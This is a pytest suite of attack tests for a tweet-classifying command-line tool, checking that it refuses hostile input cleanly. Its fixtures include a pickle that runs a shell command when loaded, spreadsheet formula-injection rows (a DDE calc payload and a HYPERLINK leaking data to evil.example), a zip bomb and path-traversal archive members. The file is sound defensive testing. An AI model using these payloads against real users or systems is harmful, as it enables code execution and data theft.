"""Hostile and careless use, one attack a row: nothing deleted, nothing executed, nothing unbounded,
never a traceback.

Each row names the files an attack needs (text, bytes, or a function that writes the file), the
command line, the exit code and a fragment of the one-line message expected, and optionally a
check of what is left on disk afterwards. In the command, ``{T}`` is the test's folder and
``{store}`` a model store holding one model. A new attack is one more row.
"""

from __future__ import annotations

import csv
import hashlib
import json
import os
import pickle
import shlex
import shutil
import subprocess
import sys
import threading
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from tests.conftest import REPO, invoke

SAMPLE = REPO / "data" / "samples" / "ldinsight_generic.csv"
CHAT = SAMPLE.read_text(encoding="utf-8")


@dataclass
class Attack:
    files: dict[str, str | bytes | Callable[[Path], object]]
    args: str
    rc: int
    says: str = ""
    then: Callable[[Path, str], bool] | None = field(default=None)  # given the folder and the output
    before: str = ""  # a command run first, which must succeed


def _unchanged(name: str, content: str) -> Callable[[Path, str], bool]:
    return lambda tmp, out: (tmp / name).read_text(encoding="utf-8") == content


def _rows(name: str, n: int) -> Callable[[Path, str], bool]:
    return lambda tmp, out: len(list(csv.reader(open(tmp / name, encoding="utf-8", newline="")))) == n + 1


def _no_canary(tmp: Path, out: str) -> bool:
    return not (tmp / "PWNED").exists()


def _no_formula(name: str) -> Callable[[Path, str], bool]:
    def check(tmp: Path, out: str) -> bool:
        with open(tmp / name, encoding="utf-8", newline="") as handle:
            cells = [cell for row in csv.reader(handle) for cell in row]
        return all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells) and "'=HYPERLINK" in "".join(cells)
    return check


def _evil_pickle(canary: Path) -> bytes:
    class Evil:
        def __reduce__(self):
            return (os.system, (f"echo PWNED > {canary}",))

    return pickle.dumps(Evil())


def _evil_model(path: Path) -> None:
    """A model folder whose model.joblib runs a command when unpickled (its manifest matches its sha256)."""
    path.mkdir(parents=True)
    data = _evil_pickle(_root(path) / "PWNED")
    (path / "model.joblib").write_bytes(data)
    (path / "manifest.json").write_text(json.dumps(
        {"model_id": path.name, "labels": ["a", "b", "c"], "model_sha256": hashlib.sha256(data).hexdigest(), "versions": {}}))


def _evil_store(path: Path) -> None:
    _evil_model(path / "m1")
    (path / "current.json").write_text(json.dumps({"current": "m1", "history": []}))


def _root(path: Path) -> Path:
    """The test's folder (the one holding the store copy) above ``path``."""
    while not (path / "store").is_dir():
        path = path.parent
    return path


def _planted(path: Path) -> None:
    """A copy of a real model whose model.joblib is replaced by a planted pickle, sha256 updated: the scorer still works."""
    store = _root(path) / "store"
    model_id = json.loads((store / "current.json").read_text())["current"]
    shutil.copytree(store / model_id, path / model_id)
    data = _evil_pickle(_root(path) / "PWNED")
    (path / model_id / "model.joblib").write_bytes(data)
    manifest = json.loads((path / model_id / "manifest.json").read_text())
    manifest["model_sha256"] = hashlib.sha256(data).hexdigest()
    (path / model_id / "manifest.json").write_text(json.dumps(manifest))
    (path / "current.json").write_text(json.dumps({"current": model_id, "history": []}))


def _tampered_scorer(path: Path) -> None:
    """The store's scorer.npz with coefficients of the wrong shape, and its sha256 updated to match."""
    import numpy as np

    store = path.parent
    model_id = json.loads((store / "current.json").read_text())["current"]
    folder = store / model_id
    with np.load(folder / "scorer.npz") as data:
        arrays = {name: data[name] for name in data.files}
    arrays["coef"] = arrays["coef"][:, :10]
    np.savez_compressed(folder / "scorer.npz", **arrays)
    manifest = json.loads((folder / "manifest.json").read_text())
    manifest["scorer_sha256"] = hashlib.sha256((folder / "scorer.npz").read_bytes()).hexdigest()
    (folder / "manifest.json").write_text(json.dumps(manifest))
    path.write_text("tampered\n")


def _skops(change: Callable[[dict], None]) -> Callable[[Path], None]:
    """A skops export of the store's model whose manifest is changed by ``change``."""

    def make(path: Path) -> None:
        import skops.io as sio

        from socialviews.model.portable import export_model
        from socialviews.model.store import ModelStore

        export_model(ModelStore(_root(path) / "store"), None, path)
        payload = sio.loads(path.read_bytes(), trusted=[])
        manifest = json.loads(payload["manifest"])
        change(manifest)
        payload["manifest"] = json.dumps(manifest)
        path.write_bytes(sio.dumps(payload))

    return make


def _zip(members: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> Callable[[Path], None]:
    def make(path: Path) -> None:
        with zipfile.ZipFile(path, "w", compression=compression) as archive:
            for name, data in members.items():
                archive.writestr(name, data)
    return make


def _bomb(path: Path) -> None:
    """64 MiB of one letter in a CSV member: it packs about a thousand times."""
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        with archive.open("chat.csv", "w", force_zip64=True) as handle:
            handle.write(b"text\n")
            for _ in range(16):
                handle.write(b"A" * (1 << 22))


def _many_members(n: int) -> Callable[[Path], None]:
    def make(path: Path) -> None:
        with zipfile.ZipFile(path, "w") as archive:
            for k in range(n):
                archive.writestr(f"week{k}.csv", f"tweet_id,text\n{k + 1},A1 peer review in cohorts {k}\n")
    return make


def _classified_with(change: Callable[[str], str]) -> Callable[[Path], None]:
    """A classify output of the sample chat, then changed (a ragged row, a cut line)."""
    def make(path: Path) -> None:
        from socialviews.engine.local import classify_files
        from socialviews.model.store import ModelStore

        source = path.with_name("source.csv")
        source.write_text(CHAT, encoding="utf-8")
        classify_files([source], ModelStore(_root(path) / "store").load(scoring_only=True), path, jobs=1)
        source.unlink()
        path.write_text(change(path.read_text(encoding="utf-8")), encoding="utf-8")
    return make


def _no_alice(tmp: Path, out: str) -> bool:
    page = (tmp / "r.html").read_text(encoding="utf-8").lower()
    return "alice" not in page and "participant-" in page


def _ids(name: str, present: list[str], absent: list[str]) -> Callable[[Path, str], bool]:
    def check(tmp: Path, out: str) -> bool:
        with open(tmp / name, encoding="utf-8", newline="") as handle:
            ids = [row["tweet_id"] for row in csv.DictReader(handle)]
        return all(i in ids for i in present) and not any(i in ids for i in absent)
    return check


LEAKS = """tweet_id,author,created_at,text
200,host,2018-03-16T08:00:00Z,Q1 what do you think?
201,bob_ld,2018-03-16T08:01:00Z,A1 RT@alice_ld: we learn together with others in practice
202,host,2018-03-16T08:02:00Z,Q2 what do you think?
203,bob_ld,2018-03-16T08:03:00Z,A2 see http://twitter.com/#!/alice_ld for her take on peer feedback buddies
204,bob_ld,2018-03-16T08:04:00Z,A2 nitter.net/alice_ld has all her posts on collaborative learning
205,bob_ld,2018-03-16T08:05:00Z,"A2 agree with \uff20alice_ld, meaning is made together in practice"
206,bob_ld,2018-03-16T08:06:00Z,A2 https://vxtwitter.com/alice_ld/status/1 the culture of sharing online matters
207,bob_ld,2018-03-16T08:07:00Z,A2 https://fxtwitter.com/Alice_LD and twitter.com/intent/user?screen_name=alice_ld
208,bob_ld,2018-03-16T08:08:00Z,A2 twitter.com/search?q=from%3Aalice_ld or from:alice_ld
209,bob_ld,2018-03-16T08:09:00Z,"A2 thanks @\u200balice_ld, and alice_ld again"
210, alice_ld ,2018-03-16T08:10:00Z,A2 peer review in small groups
"""
FLOAT_IDS = "".join(line + "\n" for line in [
    '{"id": 1.2e18, "text": "A1 sci"}', '{"id": 1264260000000000123.0, "text": "A1 float"}',
    '{"id": 1E+18, "text": "A1 E"}', '{"id": NaN, "text": "A1 nan"}', '{"id": 1e400, "text": "A1 big"}',
    '{"id": Infinity, "text": "A1 inf"}', '{"id": 1264260000000000124, "text": "A1 int"}', '{"id": -5, "text": "A1 neg"}'])
OUTLIER_TIMES = "tweet_id,author,created_at,text,chat\n" + "".join(
    f"{k},u{k},{t},A1 peer review {k},week1\n" for k, t in enumerate(
        ["1970-01-01T00:00:00Z", "2018-03-16T08:00:00Z", "2262-04-11T00:00:00Z"], start=1))
LONG_TOKEN_CORPUS = "text,label,source\n" + "".join(
    f"{text},{label},t\n" for label, texts in __import__("tests.conftest", fromlist=["TINY_CORPUS"]).TINY_CORPUS.items()
    for text in texts if "," not in text and '"' not in text) + "peer review " + "q" * 5000 + ",collaborative_learning,t\n"


INJECTION = """tweet_id,author,created_at,text
1001,ld_host,2018-03-16T08:00:00Z,Q1 what is social learning?
1002,=cmd|' /C calc'!A0,2018-03-16T08:01:00Z,"=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"
1003,sam,2018-03-16T08:02:00Z,@SUM(1+1)*cmd|' /C calc'!A0
1004,sam,2018-03-16T08:03:00Z,+1 to peer feedback in cohorts
1005,jo,2018-03-16T08:04:00Z,-2+3 we learn together with others
1006,kim,2018-03-16T08:05:00Z,"\t=1+1 tab first"
"""


def _fifo(content: str) -> Callable[[Path], None]:
    """A named pipe that a thread fills with ``content`` once a reader opens it."""

    def make(path: Path) -> None:
        os.mkfifo(path)

        def feed() -> None:
            with open(path, "w", encoding="utf-8") as handle:
                handle.write(content)

        threading.Thread(target=feed, daemon=True).start()

    return make


PIPED = "".join(json.dumps({"id": str(10**17 + i), "text": f"A1 peer feedback in cohorts, number {i}"}) + "\n"
                for i in range(3000))


ATTACKS: dict[str, Attack] = {
    # -- data loss -------------------------------------------------------------------------------
    "I1 dask -o a folder of other files": Attack(
        {"in/chat.csv": CHAT, "tagged/week0.csv": "hand labelled\n", "tagged/sub/keep.txt": "keep\n"},
        "classify {T}/in --engine dask -o {T}/tagged", 2, "did not write",
        lambda tmp, out: (tmp / "tagged/week0.csv").exists() and (tmp / "tagged/sub/keep.txt").exists()),
    "I2 dask -o the input folder": Attack(
        {"in/chat.csv": CHAT, "in/notes.md": "precious\n"}, "classify {T}/in --engine dask -o {T}/in", 2,
        "holds an input", _unchanged("in/notes.md", "precious\n")),
    "I3 dask -o an existing file": Attack(
        {"chat.csv": CHAT, "afile.csv": "x\n"}, "classify {T}/chat.csv --engine dask -o {T}/afile.csv", 2,
        "is a file", _unchanged("afile.csv", "x\n")),
    "I4 dask -o the root folder": Attack({"chat.csv": CHAT}, "classify {T}/chat.csv --engine dask -o /", 2, "root"),
    "I4b dask -o stdout": Attack({"chat.csv": CHAT}, "classify {T}/chat.csv --engine dask -o -", 2, "not stdout",
                                 lambda tmp, out: not (tmp / "-").exists()),
    "I5 dask -o the folder above an input": Attack(
        {"in/chat.csv": CHAT}, "classify {T}/in/chat.csv --engine dask -o {T}/in", 2, "holds an input"),
    "E15 -o the input": Attack({"chat.csv": CHAT}, "classify {T}/chat.csv -o {T}/chat.csv", 2, "is an input",
                               _unchanged("chat.csv", CHAT)),
    "E15b -o a .zip input": Attack(
        {"a.zip": lambda p: zipfile.ZipFile(p, "w").writestr("chat.csv", CHAT)},
        "classify {T}/a.zip -o {T}/a.zip", 2, "a.zip"),
    "E16 --rejects the input": Attack(
        {"chat.csv": CHAT + "1,x\n"}, "classify {T}/chat.csv -o {T}/out.csv --rejects {T}/chat.csv", 2, "is an input",
        _unchanged("chat.csv", CHAT + "1,x\n")),
    "E17 --rejects the output": Attack(
        {"chat.csv": CHAT + "1,x\n"}, "classify {T}/chat.csv -o {T}/out.csv --rejects {T}/out.csv", 2, "is the output"),
    "E30 --rejects a folder, with no rejects": Attack(
        {"chat.csv": CHAT, "r/x": ""}, "classify {T}/chat.csv -o {T}/out.csv --rejects {T}/r", 2, "is a folder"),
    "E30b --rejects with a bad extension": Attack(
        {"chat.csv": CHAT}, "classify {T}/chat.csv -o {T}/out.csv --rejects {T}/r.txt", 2, "cannot tell the format"),
    "E29 a folder re-run skips its own outputs": Attack(
        {"ex/chat.csv": CHAT}, "classify {T}/ex -o {T}/ex/all.csv", 0, "18 records read", _rows("ex/all.csv", 18),
        before="classify {T}/ex -o {T}/ex/all.csv"),
    "E29b rejects of an earlier run are skipped": Attack(
        {"ex/chat.csv": CHAT, "ex/all.rejects.csv": "source,line,reason,raw\nx,2,bad,\"1,x\"\n"},
        "classify {T}/ex -o {T}/out.csv", 0, "18 records read"),
    "E9 a FIFO is read once, whole": Attack(
        {"p.jsonl": _fifo(PIPED)}, "classify {T}/p.jsonl -o {T}/o.csv", 0, "3000 records read = 3000 classified",
        _rows("o.csv", 3000)),
    "E9b a FIFO CSV is read once, header included": Attack(
        {"p.csv": _fifo(CHAT)}, "classify {T}/p.csv -o {T}/o.csv", 0, "18 records read", _rows("o.csv", 18)),
    "E9c report of a FIFO": Attack({"p.csv": _fifo(CHAT)}, "report {T}/p.csv -o {T}/r.html", 0, "report of 18 tweets"),
    "N4 --models-dir a file": Attack(
        {"chat.csv": CHAT, "fs": "x\n"}, "classify {T}/chat.csv --models-dir {T}/fs -o {T}/o.csv", 2,
        "is a file, not a folder", lambda tmp, out: not (tmp / "o.csv").exists()),
    "N4b --models-dir under a file": Attack(
        {"chat.csv": CHAT, "fs": "x\n"}, "train --models-dir {T}/fs/models --cv 0", 2, "cannot write to the model store"),
    # -- code execution and security ----------------------------------------------------------
    "D1 --model ../../x": Attack({"chat.csv": CHAT, "evil": _evil_model},
                                 "classify {T}/chat.csv --model ../evil -o {T}/o.csv", 2, "not a model id", _no_canary),
    "D2 --model /abs/path": Attack({"chat.csv": CHAT, "evil": _evil_model},
                                   "classify {T}/chat.csv --model {T}/evil -o {T}/o.csv", 2, "not a model id", _no_canary),
    "D2b explain --model /abs/path": Attack({"evil": _evil_model}, "explain 'peer review' --model {T}/evil", 2,
                                            "not a model id", _no_canary),
    "D3 models promote /abs/path": Attack({"evil": _evil_model}, "models promote {T}/evil --models-dir {store}", 2,
                                          "not a model id", _no_canary),
    "D3b current.json points out of the store": Attack(
        {"evil": _evil_model, "store/current.json": '{"current": "../evil", "history": []}'},
        "explain 'peer review'", 1, "not a model id of this store", _no_canary),
    "D3c a model folder that is a link out of the store": Attack(
        {"evil": _evil_model, "store/linked": lambda p: p.symlink_to(p.parent.parent / "evil")},
        "explain 'peer review' --model linked", 1, "is a link", _no_canary),
    "D4 --models-dir a store someone sent": Attack(
        {"sent": _evil_store}, "explain 'peer review' --models-dir {T}/sent", 1, "not written by socialviews for this user",
        _no_canary),
    "D4b classify with a store someone sent": Attack(
        {"chat.csv": CHAT, "sent": _evil_store}, "classify {T}/chat.csv --models-dir {T}/sent", 1, "--allow-pickle",
        _no_canary),
    "D4c a sent store with a planted pickle: classify reads only arrays": Attack(
        {"chat.csv": CHAT, "sent": _planted}, "classify {T}/chat.csv --models-dir {T}/sent -o {T}/o.csv", 0,
        "18 records read", _no_canary),
    "D4d a sent store with a planted pickle: report refuses it": Attack(
        {"chat.csv": CHAT, "sent": _planted}, "report {T}/chat.csv --models-dir {T}/sent -o {T}/r.html", 1,
        "not written by socialviews for this user", _no_canary),
    "D8 skops export whose labels do not match": Attack(
        {"m.skops": _skops(lambda m: m.update(labels=["x", "y", "z"]))}, "models import {T}/m.skops --models-dir {store}",
        1, "does not match"),
    "D8b skops export whose config is a string": Attack(
        {"m.skops": _skops(lambda m: m.update(config="x"))}, "models import {T}/m.skops --models-dir {store}", 1,
        "does not match"),
    "D8c skops export whose labels are a number": Attack(
        {"m.skops": _skops(lambda m: m.update(labels=5))}, "models import {T}/m.skops --models-dir {store}", 1,
        "does not match"),
    "D12 scorer.npz of the wrong shape, sha256 updated": Attack(
        {"chat.csv": CHAT, "store/x": _tampered_scorer}, "classify {T}/chat.csv -o {T}/o.csv", 1, "cannot be loaded"),
    "D13 current.json a list": Attack({"store/current.json": "[]"}, "explain 'peer review'", 1, "is damaged"),
    "D13b current.json a string": Attack({"store/current.json": '"x"'}, "models list --models-dir {store}", 1, "is damaged"),
    "D13c current.json current a number": Attack({"store/current.json": '{"current": 5}'}, "explain 'x y'", 1, "is damaged"),
    "D13d current.json history a number": Attack({"store/current.json": '{"current": "a", "history": 7}'},
                                                 "models rollback --models-dir {store}", 1, "is damaged"),
    "D14 a staging folder left by kill -9 is not a model": Attack(
        {"store/.staging-999999999-1/manifest.json": "{}"}, "models list --models-dir {store}", 0, "",
        lambda tmp, out: "staging" not in out),
    "C1 classify --spreadsheet-safe": Attack(
        {"in.csv": INJECTION}, "classify {T}/in.csv -o {T}/o.csv --spreadsheet-safe", 0, "6 records read",
        _no_formula("o.csv")),
    "C2 the queue CSV is spreadsheet-safe": Attack({"in.csv": INJECTION}, "queue {T}/in.csv -n 10 -o {T}/q.csv", 0,
                                                   "queued", _no_formula("q.csv")),
    "F14 terminal escapes in an imported label": Attack(
        {"esc.csv": 'text,label\n"peer review \x1b]0;PWNED-TITLE\x07 in cohorts",bogus_label\n'},
        "labels import {T}/esc.csv --labels-dir {T}/c1", 1, "PWNED-TITLE", lambda tmp, out: "\x1b" not in out and "\x07" not in out),
    "F14b terminal escapes in a header": Attack(
        {"esc.csv": 'a\x1b[31m,b\nx,y\n'}, "classify {T}/esc.csv --text-column zzz", 1, "",
        lambda tmp, out: "\x1b" not in out),
    # -- unbounded resources ------------------------------------------------------------------
    "A7 a zip bomb is refused unpacked": Attack({"bomb.zip": _bomb}, "classify {T}/bomb.zip -o {T}/o.csv", 1, "zip bomb",
                                                lambda tmp, out: not (tmp / "o.csv").exists()),
    "A7b report of a zip bomb": Attack({"bomb.zip": _bomb}, "report {T}/bomb.zip -o {T}/r.html", 1, "zip bomb"),
    "A8 a zip of 300 members is read, each once": Attack(
        {"many.zip": _many_members(300)}, "classify {T}/many.zip -o {T}/o.csv", 0, "300 records read"),
    "A8b a zip of 10,001 entries is refused": Attack({"many.zip": _many_members(10_001)},
                                                     "classify {T}/many.zip -o {T}/o.csv", 1, "10,001 entries"),
    "A9 report of a .zip that classify reads": Attack(
        {"a.zip": _zip({"chat.csv": CHAT.encode()})}, "report {T}/a.zip -o {T}/r.html", 0, "report of 18 tweets"),
    "A9b queue of a .zip": Attack({"a.zip": _zip({"chat.csv": CHAT.encode()})}, "queue {T}/a.zip -n 5 -o {T}/q.csv", 0,
                                  "queued 5"),
    "E8 a CSV of 3,000 columns": Attack({"wide.csv": ",".join(["text"] + [f"c{k}" for k in range(3000)]) + "\n"
                                         + ",".join(["A1 peer review"] + ["x"] * 3000) + "\n"},
                                        "classify {T}/wide.csv -o {T}/o.csv", 1, "3,001 columns"),
    "E8b a JSON line of 3,000 keys": Attack(
        {"wide.jsonl": json.dumps({"text": "A1 x", **{f"k{k}": k for k in range(3000)}}) + "\n"
         + '{"id": "2", "text": "A1 peer review"}\n'}, "classify {T}/wide.jsonl -o {T}/o.csv --max-rejects 1", 0,
        "1 rejected"),
    "E2 a 200 KB unquoted cell is a (long) tweet": Attack(
        {"long.csv": CHAT + "999,x,2018-03-16T09:00:00Z,A1 " + "w" * 200_000 + "\n"},
        "classify {T}/long.csv -o {T}/o.csv", 0, "19 records read = 19 classified"),
    "E2b a 2 MB cell is one reject, not an unclosed quote": Attack(
        {"long.csv": CHAT + "999,x,2018-03-16T09:00:00Z,A1 " + "w" * 2_000_000 + "\n"},
        "classify {T}/long.csv -o {T}/o.csv", 0, "1 rejected"),
    "E28 a timeline over centuries": Attack({"t.csv": OUTLIER_TIMES}, "report {T}/t.csv -o {T}/r.html", 0, "no timeline"),
    "D16 a long token is stored compactly": Attack(
        {"long.csv": LONG_TOKEN_CORPUS}, "train --corpus {T}/long.csv --cv 0 --no-promote --models-dir {T}/fresh", 0, "",
        lambda tmp, out: all(b"<U5" not in p.read_bytes() for p in (tmp / "fresh").glob("*/scorer.npz"))),
    # -- tracebacks ---------------------------------------------------------------------------
    "F5 Label Studio choices that are numbers": Attack(
        {"ls.json": json.dumps([{"data": {"text": "peer review"}, "annotations": [{"result": [{"value": {"choices": [5]}}]}]}])},
        "labels import {T}/ls.json --labels-dir {T}/c", 1, "not text"),
    "F5b Prodigy accept of numbers": Attack(
        {"p.jsonl": '{"text": "peer review", "accept": [3], "answer": "accept"}\n'},
        "labels import {T}/p.jsonl --labels-dir {T}/c --format prodigy", 1, "not text"),
    "F5c doccano label a number": Attack({"d.jsonl": '{"text": "peer review", "label": 2}\n'},
                                         "labels import {T}/d.jsonl --labels-dir {T}/c --format doccano", 1, "not text"),
    "F5d doccano sequence-labelling export": Attack(
        {"d.jsonl": '{"text": "peer review", "label": [[0, 7, "collaborative_learning"]]}\n'},
        "labels import {T}/d.jsonl --labels-dir {T}/c --format doccano", 1, "span"),
    "F8 labels JSON nested 100,000 deep": Attack({"deep.json": "[" * 100_000}, "labels import {T}/deep.json --labels-dir {T}/c",
                                                 1, "nested too deeply"),
    "F9 a label CSV with a 200 KB text": Attack({"big.csv": "text,label\n" + "w" * 200_000 + ",none\n"},
                                                "labels import {T}/big.csv --labels-dir {T}/c", 1, "characters"),
    "F10 an imported.csv holding a long text can be added to": Attack(
        {"c/imported.csv": "text,label,source,tweet_id,author,imported_at\n" + "w" * 200_000 + ",none,x,,,\n",
         "more.csv": "text,label\nbuddies for every new starter,collaborative_learning\n"},
        "labels import {T}/more.csv --labels-dir {T}/c", 0, "1 imported"),
    "E21 a lone surrogate in a JSON key": Attack({"s.jsonl": '{"id":"1","text":"A1 x","\\ud83d":"x"}\n'},
                                                 "classify {T}/s.jsonl -o {T}/o.csv", 0, "1 record read"),
    "E22 classify the output of a classify output": Attack(
        {"chat.csv": CHAT}, "classify {T}/g2.csv -o {T}/g3.csv", 0, "18 records read",
        before="classify {T}/chat.csv -o {T}/g1.csv && classify {T}/g1.csv -o {T}/g2.csv"),
    "E22b the same, written as Parquet and JSON Lines": Attack(
        {"chat.csv": CHAT}, "classify {T}/g2.csv -o {T}/g3.parquet", 0, "18 records read",
        before="classify {T}/chat.csv -o {T}/g1.csv && classify {T}/g1.csv -o {T}/g2.csv "
               "&& classify {T}/g2.csv -o {T}/g3.jsonl"),
    "E27 report of a classify output with a ragged row": Attack(
        {"c.csv": _classified_with(lambda t: t + ",".join(["x"] * 40) + "\n")}, "report {T}/c.csv -o {T}/r.html", 1, "cannot be read"),
    "E27b report of a classify output JSONL with a cut line": Attack(
        {"c.jsonl": _classified_with(lambda t: t[: len(t) - 40])}, "report {T}/c.jsonl -o {T}/r.html", 1, "cannot be read"),
    "E27c report of a truncated Parquet output": Attack(
        {"c.parquet": lambda p: p.write_bytes(b"PAR1" + b"x" * 100)}, "report {T}/c.parquet -o {T}/r.html", 1,
        "cannot be read"),
    "D9b --allow-pickle of a pickle that is no model": Attack(
        {"sent/m1/model.joblib": pickle.dumps(5), "sent/m1/manifest.json": lambda p: p.write_text(json.dumps(
            {"model_id": "m1", "labels": ["a", "b", "c"], "versions": {},
             "model_sha256": hashlib.sha256(pickle.dumps(5)).hexdigest()}))},
        "explain 'peer review' --models-dir {T}/sent --model m1 --allow-pickle", 1, "does not hold a model"),
    "J1 train --seed -1": Attack({}, "train --seed -1 --cv 0 --models-dir {store}", 2, "--seed"),
    "J2 evaluate --cv 100000": Attack({}, f"evaluate {REPO}/data/eval --cv 100000 -o {{T}}/ev", 2, "--cv 100000"),
    "J3 explain --top -3": Attack({}, "explain 'peer review' --top -3", 2, "--top"),
    "J3b retrain --tolerance nan": Attack({}, "retrain --tolerance nan --labels {T}", 2, "--tolerance"),
    # -- wrong silent results -----------------------------------------------------------------
    "B8 --anonymise: every handle spelling": Attack(
        {"alice_ld_chat.csv": LEAKS}, "report {T}/alice_ld_chat.csv --anonymise -o {T}/r.html", 0, "", _no_alice),
    "B7 an RTL override stays inside its handle": Attack(
        {"chat.csv": CHAT + "999,\u202eevil,2018-03-16T09:00:00Z,A1 peer review \u202e in cohorts\n"},
        "report {T}/chat.csv -o {T}/r.html", 0, "",
        lambda tmp, out: "<bdi>@\u202eevil</bdi>" in (tmp / "r.html").read_text(encoding="utf-8")),
    "E7 a NUL byte late in a file does not reach the output": Attack(
        {"chat.csv": CHAT + "x" * 5000 + "\n999,x,2018-03-16T09:00:00Z,A1 nul\x00inside\n"},
        "classify {T}/chat.csv -o {T}/o.csv --max-rejects 5", 0, "", lambda tmp, out: "\x00" not in (tmp / "o.csv").read_text()),
    "A1b a zip member leading out of the archive is named": Attack(
        {"a.zip": _zip({"../x.csv": CHAT.encode(), "chat.csv": CHAT.encode()})}, "classify {T}/a.zip -o {T}/o.csv", 0,
        "leads out of the archive"),
    "E11b a link to itself": Attack({"loop.csv": lambda p: p.symlink_to(p)}, "classify {T}/loop.csv", 1, "link"),
    "H2 JSON float ids": Attack(
        {"ids.jsonl": FLOAT_IDS}, "classify {T}/ids.jsonl -o {T}/ids.csv --max-rejects 100%", 0, "1 tweet id was written as a JSON number",
        _ids("ids.csv", ["1264260000000000123", "1264260000000000124", "-5"], ["inf", "1.2e+18", "1.26426e+18", "1e+18"])),
}


def _command(line: str, tmp: Path, store: Path) -> list[str]:
    args = shlex.split(line.format(T=tmp, store=store))
    if args[0] in ("classify", "report", "queue", "explain", "evaluate", "retrain") and "--models-dir" not in args:
        args += ["--models-dir", str(store)]
    return args


def _prepare(tmp: Path, attack: Attack) -> None:
    for name, content in attack.files.items():
        path = tmp / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if callable(content):
            content(path)
        elif isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_text(content, encoding="utf-8")


@pytest.mark.parametrize("name", list(ATTACKS))
def test_attack_holds(name, runner, trained_store, tmp_path, monkeypatch):
    attack = ATTACKS[name]
    monkeypatch.chdir(tmp_path)
    store = tmp_path / "store"  # a copy: attacks may damage it
    shutil.copytree(trained_store, store)
    _prepare(tmp_path, attack)
    for before in filter(None, attack.before.split(" && ")):
        first = invoke(runner, _command(before, tmp_path, store))
        assert first.exit_code == 0, first.stderr
    result = invoke(runner, _command(attack.args, tmp_path, store))
    message = result.stderr + result.stdout
    assert result.exit_code == attack.rc, message
    assert isinstance(result.exception, (SystemExit, type(None))), repr(result.exception)
    assert "Traceback" not in message
    assert attack.says in message, message
    if attack.rc and not result.stderr.startswith("Usage:"):  # usage errors are made one line by main()
        assert result.stderr.strip().splitlines()[-1].startswith("socialviews: error: "), result.stderr
    if attack.then is not None:
        assert attack.then(tmp_path, message), message


def test_output_that_is_the_file_on_stdin_is_refused(trained_store, tmp_path):
    """``classify - -o f.csv < f.csv`` would replace the export it reads; a pipe is no file and is fine."""
    export = tmp_path / "f.csv"
    export.write_text(CHAT, encoding="utf-8")
    command = [sys.executable, "-m", "socialviews", "classify", "-", "--models-dir", str(trained_store), "-o"]
    with open(export, "rb") as handle:
        result = subprocess.run([*command, str(export)], stdin=handle, capture_output=True, text=True)
    assert result.returncode == 2 and "is the file on stdin" in result.stderr, result.stderr
    assert export.read_text(encoding="utf-8") == CHAT
    piped = subprocess.run([*command, str(tmp_path / "out.csv")], input=CHAT, capture_output=True, text=True)
    assert piped.returncode == 0, piped.stderr
    assert len(list(csv.reader(open(tmp_path / "out.csv", encoding="utf-8", newline="")))) == 19


@pytest.mark.slow
def test_concurrent_imports_into_one_corpus_lose_nothing(tmp_path):
    """F12: imports that run at the same time each add all their rows (a lock around the read-modify-write)."""
    files = []
    for k in range(4):
        path = tmp_path / f"labels_{k}.csv"
        with open(path, "w", newline="", encoding="utf-8") as handle:
            writer = csv.writer(handle)
            writer.writerow(["tweet_id", "text", "label"])
            writer.writerows([str(k * 10_000 + i), f"peer review round {k} number {i}", "collaborative_learning"]
                             for i in range(3000))
        files.append(path)
    corpus = tmp_path / "corpus"
    procs = [subprocess.Popen([sys.executable, "-m", "socialviews", "labels", "import", str(f), "--labels-dir", str(corpus)],
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE) for f in files]
    assert [proc.wait(timeout=300) for proc in procs] == [0] * 4
    with open(corpus / "imported.csv", encoding="utf-8", newline="") as handle:
        assert len(list(csv.DictReader(handle))) == 12_000


def test_an_unsafe_zip_member_is_noted_once(trained_store, tmp_path):
    # the inputs are listed more than once in a run (checked first, then read); the note is given once
    target = tmp_path / "chats.zip"
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr("chat.csv", CHAT)
        archive.writestr("../x.csv", "tweet_id,text\n1,hi\n")
    result = subprocess.run([sys.executable, "-m", "socialviews", "classify", str(target), "-o", str(tmp_path / "o.csv"),
                             "--models-dir", str(trained_store)], capture_output=True, text=True)
    assert result.returncode == 0 and "18 records read" in result.stderr, result.stderr
    assert result.stderr.count("leads out of the archive") == 1, result.stderr
